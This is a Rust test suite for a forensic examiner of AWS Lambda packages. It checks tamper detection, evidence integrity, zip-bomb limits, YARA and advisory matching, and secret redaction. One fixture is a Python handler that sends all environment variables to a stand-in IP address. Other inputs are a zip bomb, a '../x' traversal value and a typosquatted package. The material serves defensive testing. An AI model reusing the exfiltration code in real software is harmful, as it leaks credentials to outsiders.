//! Whole examinations in a vault in memory.

use crate::canned::{Draft, Recording, at, baseline, trail_record};
use crate::*;
use ::evidence::{ArtifactKind, Examination, Outcome, Request, SealedCase, Severity};
use async_trait::async_trait;
use bytes::Bytes;
use serde_json::json;
use std::io::Write as _;
use tokio::time::Instant;
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

/// What the owner gives, by key.
struct Books(Vec<(&'static str, Vec<u8>)>);

#[async_trait]
impl Bookcase for Books {
    async fn list(&self, place: &Place, limit: usize) -> Result<Vec<(String, u64)>, String> {
        let files = self.0.iter();
        let files = files.filter(|(key, _)| key.starts_with(&place.prefix));
        let files = files.map(|(key, bytes)| ((*key).to_owned(), bytes.len() as u64));
        Ok(files.take(limit).collect())
    }

    async fn get(&self, _: &Place, key: &str, _: u64) -> Result<Bytes, String> {
        let found = self.0.iter().find(|(known, _)| *known == key);
        found
            .map(|(_, bytes)| bytes.clone().into())
            .ok_or_else(|| "NoSuchKey".to_owned())
    }
}

struct Bench {
    vault: Arc<Recording>,
    examiner: Examiner,
    scratch: tempfile::TempDir,
}

impl Bench {
    fn new() -> Self {
        Self::with(Arc::new(Recording::default()), Vec::new())
    }

    fn with(vault: Arc<Recording>, books: Vec<(&'static str, Vec<u8>)>) -> Self {
        let scratch = tempfile::tempdir().unwrap();
        let place = |text: &str| Some(text.parse().unwrap());
        let has = |prefix: &str| books.iter().any(|(key, _)| key.starts_with(prefix));
        let settings = Settings {
            limit_bytes: 64 << 20,
            expected: has("expected")
                .then(|| place("s3://owner/expected.json"))
                .flatten(),
            rules: has("rules/").then(|| place("s3://owner/rules/")).flatten(),
            advisories: has("osv/").then(|| place("s3://owner/osv/")).flatten(),
        };
        let examiner = Examiner {
            vault: Arc::clone(&vault) as Arc<dyn Vault>,
            bookcase: Arc::new(Books(books)),
            clock: Arc::new(|| at("2026-11-23T06:00:00Z")),
            scratch: scratch.path().to_owned(),
            limits: Limits::default(),
            settings,
            underway: Arc::default(),
        };
        Self {
            vault,
            examiner,
            scratch,
        }
    }

    async fn text_of(&self, examination: &Examination, name: &str, ending: &str) -> String {
        let named =
            |exhibit: &&::evidence::Exhibit| exhibit.name == name && exhibit.key.ends_with(ending);
        let exhibit = examination.exhibits.iter().find(named).unwrap();
        let bytes = self.vault.get(&exhibit.key).await.unwrap();
        String::from_utf8(bytes.to_vec()).unwrap()
    }

    async fn take(&self, case: &SealedCase, pass: &str) -> Examination {
        let step = Step {
            case_id: case.manifest().case_id.clone(),
            pass: pass.to_owned(),
            execution: None,
        };
        let answer = self.examiner.take(&step, &attempt(600)).await.unwrap();
        // Nothing is left behind, whatever happened.
        let left = std::fs::read_dir(self.scratch.path()).unwrap().count();
        assert_eq!(left, 0);
        let underway = self
            .examiner
            .underway
            .load(std::sync::atomic::Ordering::SeqCst);
        assert_eq!(underway, 0);
        let bytes = self.vault.get(&answer.result).await.unwrap();
        serde_json::from_slice(&bytes).unwrap()
    }
}

fn attempt(seconds: u64) -> Attempt {
    Attempt {
        id: "attempt-1".to_owned(),
        deadline: Instant::now() + Duration::from_secs(seconds),
    }
}

fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, bytes) in files {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

const GOOD: &[u8] = b"import json\n\ndef handler(event, context):\n    return json.dumps(event)\n";
const BAD: &[u8] = b"import json, os, urllib.request\n\ndef handler(event, context):\n    \
urllib.request.urlopen('https://198.51.100.9/c', data=json.dumps(dict(os.environ)).encode())\n    \
return json.dumps(event)\n";

fn configuration(handler: &str, role: &str) -> Value {
    json!({
        "FunctionName": "billing",
        "FunctionArn": "arn:aws:lambda:eu-west-1:111122223333:function:billing",
        "Runtime": "python3.13",
        "Handler": handler,
        "Role": role,
        "Version": "$LATEST",
        "LastModified": "2026-11-23T03:15:01.000+0000",
        "Environment": {"Variables": {"TABLE": "marked-secret"}},
    })
}

const ROLE: &str = "arn:aws:iam::111122223333:role/billing-role";

async fn tampered(vault: &Arc<Recording>) -> SealedCase {
    let package = zip(&[("app.py", BAD), ("lib/extra.py", b"x = 1\n")]);
    Draft::open(vault)
        .code(&package)
        .await
        .reply(
            ArtifactKind::Configuration,
            "lambda:GetFunctionConfiguration",
            configuration("app.handler", ROLE),
        )
        .await
        .seal("2026-11-23T03:15:10Z")
        .await
}

fn rules(examination: &Examination) -> Vec<&str> {
    let findings = examination.findings.iter();
    findings.map(|finding| finding.rule.as_str()).collect()
}

fn names(examination: &Examination) -> Vec<&str> {
    let exhibits = examination.exhibits.iter();
    exhibits.map(|exhibit| exhibit.name.as_str()).collect()
}

#[tokio::test]
async fn a_case_without_a_known_good_state_is_examined_and_says_so() {
    let bench = Bench::new();
    let case = tampered(&bench.vault).await;
    let examination = bench.take(&case, "sealed").await;
    assert_eq!(examination.outcome, Outcome::Acquired);
    assert!(rules(&examination).contains(&"no-baseline"));
    assert_eq!(
        names(&examination),
        [
            "contents-function-code.zip-0001-sealed",
            "components-sealed",
            "packages-sealed",
            "timeline-0001-sealed",
        ]
    );
    let line = &examination.verdict.line;
    assert!(line.contains("there is no record of"), "{line}");
    assert!(
        line.contains("mallory") && line.contains("198.51.100.7"),
        "{line}"
    );
    assert!(examination.verdict.severity >= Severity::High);
}

#[tokio::test]
async fn a_tampered_package_is_told_from_the_good_one_and_judged() {
    let bench = Bench::new();
    let case = tampered(&bench.vault).await;
    let good = zip(&[("app.py", GOOD), ("lib/old.py", b"y = 1\n")]);
    let before = configuration("app.handler", "arn:aws:iam::111122223333:role/other-role");
    baseline(&bench.vault, 1, "2026-11-20T00:00:00Z", before, Some(&good)).await;
    // Recorded when the attacker was there already.
    let after = configuration("app.handler", ROLE);
    baseline(&bench.vault, 2, "2026-11-23T03:15:01Z", after, None).await;
    let examination = bench.take(&case, "sealed").await;
    assert_eq!(examination.outcome, Outcome::Acquired);
    let rules = rules(&examination);
    assert!(rules.contains(&"credentials-sent-away"), "{rules:?}");
    assert!(!rules.contains(&"no-baseline"), "{rules:?}");
    let line = &examination.verdict.line;
    assert!(line.contains("3 files"), "{line}");
    assert!(line.contains("role"), "{line}");
    assert!(
        line.contains("mallory") && line.contains("198.51.100.7"),
        "{line}"
    );
    assert!(examination.verdict.severity >= Severity::High);
    let text = bench
        .text_of(&examination, "difference-sealed", ".md")
        .await;
    assert!(text.contains("role/other-role"), "{text}");
    let line = "+    urllib.request.urlopen('https://198.51.100.9/c'";
    assert!(text.contains(line), "{text}");
    assert!(names(&examination).contains(&"difference-function-code.zip-0001-sealed"));
    let json = bench.text_of(&examination, "changes-sealed", ".json").await;
    let json: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json["recorded_at"], "2026-11-20T00:00:00Z");
    // What is different does not depend on which pass asks.
    let later = bench.take(&case, "first").await;
    assert_eq!(later.verdict, examination.verdict);
}

#[tokio::test]
async fn a_function_that_nobody_changed_is_told_as_unchanged() {
    let bench = Bench::new();
    let package = zip(&[("app.py", GOOD)]);
    let settings = configuration("app.handler", ROLE);
    baseline(
        &bench.vault,
        1,
        "2026-11-20T00:00:00Z",
        settings.clone(),
        Some(&package),
    )
    .await;
    let case = Draft::open(&bench.vault)
        .code(&package)
        .await
        .reply(
            ArtifactKind::Configuration,
            "lambda:GetFunctionConfiguration",
            settings,
        )
        .await
        .seal("2026-11-23T03:15:10Z")
        .await;
    let examination = bench.take(&case, "sealed").await;
    assert!(
        examination.verdict.changed.is_empty(),
        "{:?}",
        examination.verdict
    );
    let alarming = examination
        .findings
        .iter()
        .filter(|it| it.severity > Severity::Info);
    assert_eq!(alarming.count(), 0, "{:?}", examination.findings);
}

/// What the function's role allows it: nothing outside its own folder.
#[tokio::test]
async fn an_examination_writes_in_its_own_folder_only() {
    let bench = Bench::new();
    let case = tampered(&bench.vault).await;
    baseline(&bench.vault, 1, "2026-11-20T00:00:00Z", json!({}), None).await;
    bench.vault.written.lock().unwrap().clear();
    let examination = bench.take(&case, "sealed").await;
    let folder = format!("examinations/{}/sealed/", case.manifest().case_id);
    let written = bench.vault.written.lock().unwrap().clone();
    assert!(written.len() > examination.exhibits.len());
    for key in &written {
        assert!(key.starts_with(&folder), "{key}");
    }
    // Last of all, so that nothing is read before all is there.
    assert_eq!(
        written.last(),
        Some(&keys::examination(&case.manifest().case_id, "sealed"))
    );
    for exhibit in &examination.exhibits {
        let bytes = bench.vault.get(&exhibit.key).await.unwrap();
        assert_eq!(::evidence::Sha256Digest::of(&bytes), exhibit.sha256);
        let extension = exhibit.key.rsplit_once(&exhibit.sha256.short()).unwrap().1;
        let key = keys::examined(
            &case.manifest().case_id,
            "sealed",
            &exhibit.name,
            &exhibit.sha256,
            &extension[1..],
        );
        assert_eq!(key, exhibit.key);
    }
}

#[tokio::test]
async fn a_second_attempt_changes_nothing() {
    let bench = Bench::new();
    let case = tampered(&bench.vault).await;
    let first = bench.take(&case, "sealed").await;
    bench.vault.written.lock().unwrap().clear();
    assert_eq!(bench.take(&case, "sealed").await, first);
    assert!(bench.vault.written.lock().unwrap().is_empty());
}

#[tokio::test]
async fn a_later_pass_takes_over_what_the_first_found_in_packages() {
    let bench = Bench::new();
    let case = tampered(&bench.vault).await;
    let first = bench.take(&case, "sealed").await;
    Draft::amend(&bench.vault, &case)
        .lines(
            Request::whole(ArtifactKind::AuditEvents),
            "audit-events-first-0001",
            &[trail_record(
                "2026-11-23T03:14:00Z",
                1,
                "lambda",
                "Invoke",
                "mallory",
            )],
        )
        .await
        .seal("2026-11-23T05:00:00Z")
        .await;
    // The package cannot be read any more; it need not be.
    let package = case
        .manifest()
        .exhibits()
        .find(|it| it.name == "function-code.zip");
    bench.vault.alter(&package.unwrap().key, "gone");
    let second = bench.take(&case, "first").await;
    assert_eq!(names(&second), ["timeline-0001-first"]);
    assert_eq!(rules(&second), rules(&first));
    assert_eq!(second.outcome, Outcome::Acquired);
}

#[tokio::test]
async fn bytes_that_are_not_those_that_were_sealed_are_critical_and_not_opened() {
    let bench = Bench::new();
    let case = tampered(&bench.vault).await;
    let package = case
        .manifest()
        .exhibits()
        .find(|it| it.name == "function-code.zip");
    bench
        .vault
        .alter(&package.unwrap().key, zip(&[("app.py", GOOD)]));
    let examination = bench.take(&case, "sealed").await;
    let altered = &examination.findings[0];
    assert_eq!(
        (altered.rule.as_str(), altered.severity),
        ("evidence-altered", Severity::Critical)
    );
    assert_eq!(examination.verdict.severity, Severity::Critical);
    assert!(
        matches!(&examination.outcome, Outcome::Partial { why } if why.contains("function-code.zip"))
    );
    assert!(
        !names(&examination)
            .iter()
            .any(|name| name.starts_with("contents"))
    );
}

#[tokio::test]
async fn what_is_no_archive_is_told_and_ends_nothing() {
    let bench = Bench::new();
    let case = Draft::open(&bench.vault)
        .code(b"neither a zip nor a tar")
        .await
        .seal("2026-11-23T03:15:10Z")
        .await;
    let examination = bench.take(&case, "sealed").await;
    assert!(
        matches!(&examination.outcome, Outcome::Partial { why } if why.contains("was not opened"))
    );
}

#[tokio::test]
async fn a_bomb_costs_no_more_than_the_limits_and_is_told() {
    let mut bench = Bench::new();
    bench.examiner.limits.total_bytes = 20 << 20;
    let mut zeros = ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zeros
        .start_file("zeros", SimpleFileOptions::default())
        .unwrap();
    for _ in 0..100 {
        zeros.write_all(&vec![0; 1 << 20]).unwrap();
    }
    let bomb = zip(&[
        ("app.py", GOOD),
        ("inner.zip", &zeros.finish().unwrap().into_inner()),
    ]);
    assert!(bomb.len() < 1 << 20);
    let case = Draft::open(&bench.vault)
        .code(&bomb)
        .await
        .seal("2026-11-23T03:15:10Z")
        .await;
    let examination = bench.take(&case, "sealed").await;
    assert!(
        rules(&examination)
            .iter()
            .any(|rule| rule.starts_with("archive-"))
    );
    assert!(
        matches!(&examination.outcome, Outcome::Partial { why } if why.contains("not read as a whole"))
    );
}

#[tokio::test]
async fn a_package_beyond_the_limit_is_not_laid_down() {
    let mut bench = Bench::new();
    bench.examiner.settings.limit_bytes = 10;
    let case = tampered(&bench.vault).await;
    let examination = bench.take(&case, "sealed").await;
    assert!(
        matches!(&examination.outcome, Outcome::Partial { why } if why.contains("more than 10 bytes"))
    );
}

#[tokio::test]
async fn what_there_was_no_time_for_is_told_and_done_by_a_later_pass() {
    let bench = Bench::new();
    let case = tampered(&bench.vault).await;
    let step = |pass: &str| Step {
        case_id: case.manifest().case_id.clone(),
        pass: pass.to_owned(),
        execution: None,
    };
    let answer = bench
        .examiner
        .take(&step("sealed"), &attempt(5))
        .await
        .unwrap();
    let bytes = bench.vault.get(&answer.result).await.unwrap();
    let cut_off: Examination = serde_json::from_slice(&bytes).unwrap();
    assert!(
        matches!(&cut_off.outcome, Outcome::Partial { why } if why.contains("the time was up"))
    );
    let later = bench.take(&case, "first").await;
    assert_eq!(later.outcome, Outcome::Acquired);
    assert!(names(&later).contains(&"packages-first"));
}

/// The function died while it opened a package; the state machine asks again.
#[tokio::test]
async fn a_package_that_ended_an_attempt_is_left_out_by_the_next_which_does_the_rest() {
    let bench = Bench::new();
    let layer = "arn:aws:lambda:eu-west-1:111122223333:layer:deps:3";
    let case = Draft::open(&bench.vault)
        .code(&zip(&[("app.py", BAD)]))
        .await
        .package(
            Request::one(ArtifactKind::Layer, layer),
            "layer-deps-3-bytes.zip",
            &zip(&[("python/x.py", b"x = 1\n")]),
        )
        .await
        .seal("2026-11-23T03:15:10Z")
        .await;
    let deadly = case
        .manifest()
        .exhibits()
        .find(|it| it.name == "function-code.zip");
    let exhibits = Exhibits {
        vault: Arc::clone(&bench.vault) as Arc<dyn Vault>,
        case: case.manifest().case_id.clone(),
        pass: "sealed".to_owned(),
        execution: None,
        clock: Arc::clone(&bench.examiner.clock),
        kept: Vec::new(),
        left_out: Vec::new(),
    };
    assert!(!exhibits.opening(deadly.unwrap().sha256).await.unwrap());
    let examination = bench.take(&case, "sealed").await;
    assert!(rules(&examination).contains(&"package-ends-examination"));
    assert!(names(&examination).contains(&"contents-layer-deps-3-bytes.zip-0001-sealed"));
    assert!(!names(&examination).contains(&"contents-function-code.zip-0001-sealed"));
    assert!(
        matches!(&examination.outcome, Outcome::Partial { why } if why.contains("function-code.zip"))
    );
}

#[tokio::test]
async fn what_another_execution_is_opening_is_not_taken_for_deadly() {
    let bench = Bench::new();
    let case = tampered(&bench.vault).await;
    let package = case
        .manifest()
        .exhibits()
        .find(|it| it.name == "function-code.zip");
    let sha256 = package.unwrap().sha256;
    let run = |execution: Option<&str>| Exhibits {
        vault: Arc::clone(&bench.vault) as Arc<dyn Vault>,
        case: case.manifest().case_id.clone(),
        pass: "sealed".to_owned(),
        execution: execution.map(str::to_owned),
        clock: Arc::clone(&bench.examiner.clock),
        kept: Vec::new(),
        left_out: Vec::new(),
    };
    assert!(!run(Some("one")).opening(sha256).await.unwrap());
    assert!(!run(Some("two")).opening(sha256).await.unwrap());
    assert!(!run(None).opening(sha256).await.unwrap());
    assert!(run(Some("one")).opening(sha256).await.unwrap());
    run(Some("one")).opened(sha256).await;
    assert!(!run(Some("one")).opening(sha256).await.unwrap());
    assert!(run(Some("two")).opening(sha256).await.unwrap());
}

#[tokio::test]
async fn an_end_that_cannot_be_noted_ends_nothing() {
    let bench = Bench::new();
    let case = tampered(&bench.vault).await;
    *bench.vault.refused.lock().unwrap() = Some("/opened.");
    let examination = bench.take(&case, "sealed").await;
    assert_eq!(examination.outcome, Outcome::Acquired);
    assert!(names(&examination).contains(&"contents-function-code.zip-0001-sealed"));
}

#[test]
fn a_step_names_its_execution_or_none_and_nothing_else() {
    let id = "20260102T030405Z-x-0000000000000000";
    let named = json!({"case_id": id, "pass": "first", "execution": "one_2"});
    let step = Step::read(named).unwrap();
    assert_eq!(step.execution.as_deref(), Some("one_2"));
    let unnamed = json!({"case_id": id, "pass": "first"});
    assert_eq!(Step::read(unnamed).unwrap().execution, None);
    for bad in [
        json!({"case_id": id, "pass": "first", "execution": "x".repeat(257)}),
        json!({"case_id": id, "pass": "first", "more": 1}),
    ] {
        assert_eq!(Step::read(bad).unwrap_err().name(), "BadInput");
    }
    // What the state machine passes.
    let machine = include_str!("../../../infra/investigation.asl.json");
    assert!(machine.contains("'execution': $states.context.Execution.Name"));
}

#[tokio::test]
async fn what_ended_an_earlier_examination_is_in_no_later_verdict() {
    let bench = Bench::new();
    let package = zip(&[("app.py", GOOD)]);
    let settings = configuration("app.handler", ROLE);
    let good = Some(package.as_slice());
    let recorded_at = "2026-11-20T00:00:00Z";
    baseline(&bench.vault, 1, recorded_at, settings.clone(), good).await;
    let call = "lambda:GetFunctionConfiguration";
    let case = Draft::open(&bench.vault)
        .code(&package)
        .await
        .reply(ArtifactKind::Configuration, call, settings)
        .await
        .seal("2026-11-23T03:15:10Z")
        .await;
    let of = |rule: &str| ::evidence::Finding {
        rule: rule.to_owned(),
        statement: "It ended.".to_owned(),
        severity: Severity::High,
        confidence: ::evidence::Confidence::Low,
        technique: None,
        advice: None,
        proof: Vec::new(),
    };
    Draft::amend(&bench.vault, &case)
        .find(of("examination-failed"))
        .find(of("examination-unfit"))
        .find(of("package-ends-examination"))
        .seal("2026-11-23T05:00:00Z")
        .await;
    let verdict = bench.take(&case, "first").await.verdict;
    assert!(verdict.severity < Severity::High, "{verdict:?}");
    assert!(!verdict.line.contains("It ended"), "{verdict:?}");
}

#[tokio::test]
async fn tracing_that_coldcase_turned_on_is_no_change_of_the_attackers() {
    for is_ours in [false, true] {
        let bench = Bench::new();
        let traced = |mode: &str| {
            let mut settings = configuration("app.handler", ROLE);
            settings["TracingConfig"] = json!({"Mode": mode});
            settings
        };
        let before = traced("PassThrough");
        baseline(&bench.vault, 1, "2026-11-20T00:00:00Z", before, None).await;
        if is_ours {
            let intent = keys::tracing_intent(&canned::billing(), "revision-1");
            let bytes = Bytes::from_static(b"{}");
            let json = "application/json";
            bench.vault.put_once(&intent, bytes, json).await.unwrap();
        }
        let call = "lambda:GetFunctionConfiguration";
        let case = Draft::open(&bench.vault)
            .reply(ArtifactKind::Configuration, call, traced("Active"))
            .await
            .seal("2026-11-23T03:15:10Z")
            .await;
        let examination = bench.take(&case, "sealed").await;
        let changed = &examination.verdict.changed;
        let told = changed.iter().any(|change| change.contains("tracing"));
        assert_eq!(told, !is_ours, "{changed:?}");
        let text = bench.text_of(&examination, "difference-sealed", ".md");
        assert_eq!(text.await.contains("coldcase turned it on"), is_ours);
        let json = bench.text_of(&examination, "changes-sealed", ".json").await;
        let json: Value = serde_json::from_str(&json).unwrap();
        assert_eq!(json["tracing_turned_on_by_coldcase"], is_ours);
    }
}

#[tokio::test]
async fn an_unusable_file_of_the_owner_is_told_and_costs_nothing_else() {
    let bench = Bench::with(
        Arc::new(Recording::default()),
        vec![("expected.json", b"not json".to_vec())],
    );
    let case = tampered(&bench.vault).await;
    let examination = bench.take(&case, "sealed").await;
    let finding = examination
        .findings
        .iter()
        .find(|finding| finding.rule == "owner-input-unusable")
        .unwrap();
    assert_eq!(finding.severity, Severity::Low);
    assert_eq!(examination.outcome, Outcome::Acquired);
}

#[tokio::test]
async fn rules_and_advisories_of_the_owner_are_looked_with_and_broken_ones_left_out() {
    let rule = |name: &str, text: &str| {
        format!(
            "rule {name} {{ meta: severity = \"high\" strings: $a = \"{text}\" condition: $a }}"
        )
    };
    let advisory = json!({
        "id": "MAL-2026-1", "summary": "steals", "modified": "2026-01-01T00:00:00Z",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "reqeusts"}, "versions": ["1.0.0"]}],
    });
    let bench = Bench::with(
        Arc::new(Recording::default()),
        vec![
            ("rules/a.yar", rule("owners", "urllib").into_bytes()),
            ("rules/b.yar", b"rule broken {".to_vec()),
            ("rules/c.yar", vec![0xff; 10]),
            ("rules/readme.txt", b"no rules".to_vec()),
            ("osv/MAL-2026-1.json", advisory.to_string().into_bytes()),
            ("osv/bad.json", b"{".to_vec()),
        ],
    );
    let package = zip(&[
        ("app.py", BAD),
        (
            "reqeusts-1.0.0.dist-info/METADATA",
            b"Metadata-Version: 2.1\nName: reqeusts\nVersion: 1.0.0\n",
        ),
    ]);
    let case = Draft::open(&bench.vault)
        .code(&package)
        .await
        .seal("2026-11-23T03:15:10Z")
        .await;
    let examination = bench.take(&case, "sealed").await;
    assert_eq!(examination.outcome, Outcome::Acquired);
    let told: Vec<_> = examination
        .findings
        .iter()
        .map(|it| &it.statement)
        .collect();
    let tells = |what: &str| told.iter().any(|told| told.contains(what));
    for what in [
        "owners",
        "MAL-2026-1",
        "rules/b.yar",
        "rules/c.yar",
        "osv/bad.json",
    ] {
        assert!(tells(what), "{what}: {told:#?}");
    }
    assert!(!tells("readme"), "{told:#?}");
}

#[tokio::test]
async fn code_that_the_owner_does_not_expect_is_a_finding() {
    let expected = json!({"functions": {"billing": "0".repeat(64)}}).to_string();
    let bench = Bench::with(
        Arc::new(Recording::default()),
        vec![("expected.json", expected.into_bytes())],
    );
    let case = tampered(&bench.vault).await;
    let examination = bench.take(&case, "sealed").await;
    let named = |finding: &&::evidence::Finding| finding.rule == "expected-digest-deviation";
    let finding = examination.findings.iter().find(named).unwrap();
    assert_eq!(finding.severity, Severity::High);
}

#[tokio::test]
async fn an_unknown_case_and_a_hostile_pass_are_refused() {
    let bench = Bench::new();
    let step = Step {
        case_id: "20260102T030405Z-x-0000000000000000".parse().unwrap(),
        pass: "sealed".to_owned(),
        execution: None,
    };
    let error = bench.examiner.take(&step, &attempt(60)).await.unwrap_err();
    assert_eq!(error.name(), "NoCase");
    for pass in ["", "../x", "a/b", &"x".repeat(65)] {
        let input = json!({"case_id": "20260102T030405Z-x-0000000000000000", "pass": pass});
        assert_eq!(Step::read(input).unwrap_err().name(), "BadInput", "{pass}");
    }
}

#[tokio::test]
async fn no_environment_value_leaves_the_evidence() {
    let bench = Bench::new();
    let case = tampered(&bench.vault).await;
    bench.vault.written.lock().unwrap().clear();
    bench.take(&case, "sealed").await;
    let written = bench.vault.written.lock().unwrap().clone();
    for key in written {
        let mut bytes = bench.vault.get(&key).await.unwrap().to_vec();
        if key.ends_with(".gz") {
            let mut text = Vec::new();
            std::io::Read::read_to_end(
                &mut flate2::read::MultiGzDecoder::new(&bytes[..]),
                &mut text,
            )
            .unwrap();
            bytes = text;
        }
        let text = String::from_utf8_lossy(&bytes);
        assert!(!text.contains("marked-secret"), "{key}");
    }
}
